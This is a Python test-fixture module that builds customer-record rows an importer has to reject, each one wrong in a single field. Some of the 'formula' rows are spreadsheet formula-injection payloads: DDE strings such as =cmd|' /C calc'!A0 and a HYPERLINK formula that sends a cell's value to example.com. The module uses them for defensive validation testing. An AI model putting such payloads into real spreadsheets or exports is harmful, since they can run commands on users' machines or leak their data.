"""Rows that an importer must refuse, one of every kind, each wrong in exactly one field and for exactly one reason."""

import dataclasses
from collections.abc import Callable
from datetime import date, timedelta

from dossier_local.customers import REFERENCE_DAY, SEED, Row, Source, good, ordered, organisation, person
from dossier_local.identifiers import resident_check


@dataclasses.dataclass(frozen=True)
class FaultyRow:
    """`code` is the records service's fault code; `repeats` is the good row that must stand before a duplicate."""

    values: Row
    field: str
    code: str
    repeats: Row | None = None


@dataclasses.dataclass(frozen=True)
class _Kind:
    field: str
    code: str
    change: Callable[[Row], str]
    base: Callable[[Source], Row] = person


def _says(value: str) -> Callable[[Row], str]:
    return lambda _: value


def _wrong_check(row: Row) -> str:
    number = row["identifier"]
    return number[:-1] + ("1" if number[-1] != "1" else "2")


def _resident(row: Row, *, region: str | None = None, month: str | None = None) -> str:
    """The row's ID with another region or month, and the check digit that then fits."""
    number = row["identifier"]
    body = (region or number[:6]) + number[6:10] + (month or number[10:12]) + number[12:17]
    return body + resident_check(body)


def _other_birth(row: Row) -> str:
    return (date.fromisoformat(row["birth_date"]) - timedelta(days=31)).isoformat()


def _before_opening(row: Row) -> str:
    return (date.fromisoformat(row["opened_on"]) - timedelta(days=1)).isoformat()


_KINDS = (
    _Kind("identifier", "identifier-check-digit", _wrong_check),
    _Kind("birth_date", "birth-date-contradicts", _other_birth),
    _Kind("sex", "sex-contradicts", lambda row: "女" if row["sex"] == "男" else "男"),
    _Kind("name", "required", _says("")),
    _Kind("identifier", "duplicate", lambda row: row["identifier"]),
    _Kind("opened_on", "date-impossible", _says("2021-02-30")),
    _Kind("remarks", "too-long", lambda row: row["name"] * 2500),
    _Kind("remarks", "formula", _says("=cmd|' /C calc'!A0")),
    _Kind("phone", "phone-format", lambda row: row["phone"][:-1]),
    _Kind("customer_type", "customer-type-unknown", _says("火星客户")),
    _Kind("relationship_ended_on", "ended-before-opening", _before_opening),
    _Kind("remarks", "control-character", _says("柜台\x00核对")),
    _Kind("identifier", "identifier-date", lambda row: _resident(row, month="13")),
    _Kind("identifier", "identifier-region", lambda row: _resident(row, region="990101")),
    _Kind("identifier", "required", _says("")),
    _Kind("birth_date", "date-impossible", _says("1990-02-31")),
    _Kind("name", "too-long", lambda row: row["name"] * 100),
    _Kind("remarks", "formula", _says("+1+cmd|' /C calc'!A0")),
    _Kind("identifier", "identifier-format", lambda row: row["identifier"][:-1] + "I", organisation),
    _Kind("importance", "importance-unknown", _says("极高")),
    _Kind("name", "control-character", lambda row: row["name"] + "\x07"),
    _Kind("phone", "required", _says("")),
    _Kind("birth_date", "date-in-future", lambda _: REFERENCE_DAY.replace(year=2226).isoformat()),
    _Kind("remarks", "formula", _says("@SUM(1+1)*cmd|' /C calc'!A0")),
    _Kind("identifier", "duplicate", lambda row: row["identifier"], organisation),
    _Kind("email", "email-format", lambda row: row["email"].replace("@", "#")),
    _Kind("sex", "sex-unknown", _says("不详")),
    _Kind("address", "formula", lambda row: f'=HYPERLINK("http://example.com/?q="&B2,"{row["address"]}")'),
    _Kind("customer_type", "required", _says("")),
    _Kind("identifier_type", "identifier-type-unknown", _says("图书证")),
    _Kind("remarks", "formula", _says("-2+3+cmd|' /C calc'!A0")),
    _Kind("postcode", "postcode-format", _says("1000")),
    _Kind("address", "control-character", lambda row: row["address"] + "\x1b[2J"),
    _Kind("identifier", "identifier-format", lambda row: row["identifier"][:6] + row["identifier"][8:17]),
)


def faulty_rows(source: Source, count: int, originals: list[Row]) -> list[FaultyRow]:
    """`count` rows going round the kinds; duplicates repeat the identifiers of `originals`, in their order."""
    persons = [row for row in originals if row["birth_date"]]
    organisations = [row for row in originals if not row["birth_date"]]
    found = []
    for index in range(count):
        kind = _KINDS[index % len(_KINDS)]
        row, repeats = kind.base(source), None
        if kind.code == "duplicate":
            repeats = (persons if kind.base is person else organisations).pop(0)
            same = ("name", "sex", "birth_date", "identifier", "customer_type", "legal_representative")
            row |= {column: repeats[column] for column in same}
        values = ordered(row | {kind.field: kind.change(row)})
        found.append(FaultyRow(values, kind.field, kind.code, repeats))
    return found


def faulty(seed: int = SEED, count: int = 40, originals: list[Row] | None = None) -> list[FaultyRow]:
    """`faulty_rows` for the good rows of this seed, or for those given."""
    source = Source(seed)
    made = good(source, 1000)
    return faulty_rows(source, count, made if originals is None else list(originals))
